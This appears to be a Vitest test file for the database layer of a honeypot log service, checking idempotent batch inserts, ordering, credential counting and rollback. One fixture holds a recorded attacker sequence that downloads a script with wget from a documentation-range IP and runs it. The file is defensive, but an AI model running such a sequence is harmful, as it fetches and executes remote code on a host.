// One batch, one transaction, against real Postgres: redelivered events insert nothing and
// count no attempt twice, derived rows exist only for inserted logs, and a failure anywhere
// in the batch stores nothing of it.
import { parseTrustedProxies } from './bounty.js';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Database } from '@decnet/db';
import { migratedScratchDatabase } from '@decnet/db/testing';
import type { ScratchDatabase } from '@decnet/testing/postgres';
import { InsertTurns, PROGRESS_STATE_KEY, isDataError, writeBatch } from './store.js';
import { authEvent, ingestEvent } from './test-kit.fixture.js';

const options = { trustedProxies: parseTrustedProxies('') as Exclude<ReturnType<typeof parseTrustedProxies>, { invalid: string }> };
let scratch: ScratchDatabase;
let database: Database;

beforeAll(async () => {
  ({ scratch, database } = await migratedScratchDatabase());
});
afterAll(async () => {
  await database.close();
  await scratch.drop();
});
beforeEach(async () => {
  await database.pool.query('TRUNCATE logs, credentials, bounty, observed_attachments, state');
});

const count = async (sql: string): Promise<number> => Number((await database.pool.query<{ n: string }>(sql)).rows[0]?.n);

describe('a batch is idempotent on the event id', () => {
  it('inserts new events and nothing for a redelivered batch', async () => {
    const events = [ingestEvent('a'), ingestEvent('b'), ingestEvent('c')];
    const first = await writeBatch(database.pool, events, options);
    expect(first.inserted.map((e) => e.eventId)).toEqual(['a', 'b', 'c']);
    const again = await writeBatch(database.pool, [ingestEvent('b'), ingestEvent('d')], options);
    expect(again.inserted.map((e) => e.eventId)).toEqual(['d']);
    expect(again.duplicates).toBe(1);
    expect(await count('SELECT count(*) AS n FROM logs')).toBe(4);
    const row = (await database.pool.query('SELECT decky, service, event_type, attacker_ip, fields, timestamp FROM logs WHERE event_id = $1', ['a'])).rows[0];
    expect(row).toEqual({
      decky: 'decky-01',
      service: 'ssh',
      event_type: 'login',
      attacker_ip: '198.51.100.7',
      fields: { n: 'a' },
      timestamp: new Date('2026-05-02T06:00:25Z'),
    });
  });

  it('stores a batch in arrival order, whatever its ids, so logs.id follows what the attacker did', async () => {
    const commands = ['cd /tmp', 'wget http://203.0.113.50/x.sh', 'chmod +x x.sh', '/bin/sh -c ./x.sh', 'exit'];
    // Ids are hashes: their order says nothing about arrival.
    const ids = ['f1', '0a', '9c', '3e', 'b7'];
    await writeBatch(database.pool, commands.map((cmd, i) => ingestEvent(ids[i] as string, { fields: { cmd } })), options);
    const rows = (await database.pool.query<{ cmd: string }>(`SELECT fields->>'cmd' AS cmd FROM logs ORDER BY id`)).rows;
    expect(rows.map((r) => r.cmd)).toEqual(commands);
  });

  it('keeps arrival order across concurrent batches: a batch inserts after the batches formed before it', async () => {
    const turns = new InsertTurns();
    const first = turns.take();
    const failing = turns.take();
    const third = turns.take();
    // The third batch reaches the database first, the failing one next: each still waits its turn,
    // and a failed insert hands its turn on.
    const late = writeBatch(database.pool, [ingestEvent('c1'), ingestEvent('c2')], options, third);
    const broken = writeBatch(database.pool, [ingestEvent('bad', { at: new Date(Number.NaN) })], options, failing);
    await new Promise((r) => setTimeout(r, 100));
    await writeBatch(database.pool, [ingestEvent('a1'), ingestEvent('a2')], options, first);
    await expect(broken).rejects.toMatchObject({ code: '23502' });
    await late;
    const rows = (await database.pool.query<{ event_id: string }>('SELECT event_id FROM logs ORDER BY id')).rows;
    expect(rows.map((r) => r.event_id)).toEqual(['a1', 'a2', 'c1', 'c2']);
  });

  it('stores the remote sender (certificate CN) apart from the syslog hostname', async () => {
    await writeBatch(database.pool, [ingestEvent('tls-1', { sourceWorker: 'agent-07' }), ingestEvent('local-1')], options);
    const rows = (await database.pool.query('SELECT event_id, source_worker FROM logs ORDER BY event_id')).rows;
    expect(rows).toEqual([
      { event_id: 'local-1', source_worker: null },
      { event_id: 'tls-1', source_worker: 'agent-07' },
    ]);
  });

  it('counts each credential attempt once, however often it is delivered', async () => {
    await writeBatch(database.pool, [authEvent('a', 'pw'), authEvent('b', 'pw')], options);
    await writeBatch(database.pool, [authEvent('a', 'pw'), authEvent('c', 'pw'), authEvent('d', 'other')], options);
    const rows = (await database.pool.query<{ secret_printable: string; attempt_count: number }>(
      'SELECT secret_printable, attempt_count FROM credentials ORDER BY secret_printable',
    )).rows;
    expect(rows).toEqual([
      { secret_printable: 'other', attempt_count: 1 },
      { secret_printable: 'pw', attempt_count: 3 },
    ]);
  });

  it('keeps concurrent batches of overlapping events exact', async () => {
    const events = Array.from({ length: 60 }, (_, i) => authEvent(`e${i}`, `pw${i % 3}`));
    await Promise.all([
      writeBatch(database.pool, events.slice(0, 40), options),
      writeBatch(database.pool, events.slice(20), options),
      writeBatch(database.pool, events.slice(10, 50), options),
    ]);
    expect(await count('SELECT count(*) AS n FROM logs')).toBe(60);
    expect(await count('SELECT sum(attempt_count) AS n FROM credentials')).toBe(60);
  });

  it('stores a bounty once per (type, address, payload) and advances the progress row', async () => {
    const mail = (id: string) =>
      ingestEvent(id, {
        service: 'smtp',
        eventType: 'message_stored',
        fields: { stored_as: 'm1.eml', attachments_json: JSON.stringify([{ filename: 'x.PDF', sha256: 'a'.repeat(64) }]) },
      });
    const first = await writeBatch(database.pool, [mail('m1'), mail('m2')], options);
    await writeBatch(database.pool, [mail('m3')], options);
    expect(first.bountiesInserted).toBe(1);
    expect(await count('SELECT count(*) AS n FROM bounty')).toBe(1);
    expect((await database.pool.query('SELECT observation_count, extensions FROM observed_attachments')).rows).toEqual([
      { observation_count: 3, extensions: ['pdf'] },
    ]);
    const progress = (await database.pool.query('SELECT value FROM state WHERE key = $1', [PROGRESS_STATE_KEY])).rows[0]?.value;
    expect(progress).toMatchObject({ events: 3, batches: 2 });
  });
});

describe('a batch is one transaction', () => {
  it('stores nothing of a batch that fails after its log rows were written', async () => {
    await database.pool.query(`
      CREATE OR REPLACE FUNCTION refuse_poison() RETURNS trigger AS $$
      BEGIN
        IF NEW.payload->>'stored_as' = 'poison' THEN RAISE EXCEPTION 'poison' USING ERRCODE = '22023'; END IF;
        RETURN NEW;
      END $$ LANGUAGE plpgsql;
      DROP TRIGGER IF EXISTS refuse_poison ON bounty;
      CREATE TRIGGER refuse_poison BEFORE INSERT ON bounty FOR EACH ROW EXECUTE FUNCTION refuse_poison();`);
    try {
      const poison = ingestEvent('p', { eventType: 'file_captured', fields: { stored_as: 'poison' } });
      let caught: unknown;
      await writeBatch(database.pool, [authEvent('a', 'pw'), poison], options).catch((err: unknown) => (caught = err));
      expect(isDataError(caught)).toBe(true);
      expect(await count('SELECT count(*) AS n FROM logs')).toBe(0);
      expect(await count('SELECT count(*) AS n FROM credentials')).toBe(0);
      expect(await count(`SELECT count(*) AS n FROM state`)).toBe(0);
    } finally {
      await database.pool.query('DROP TRIGGER IF EXISTS refuse_poison ON bounty');
    }
  });
});
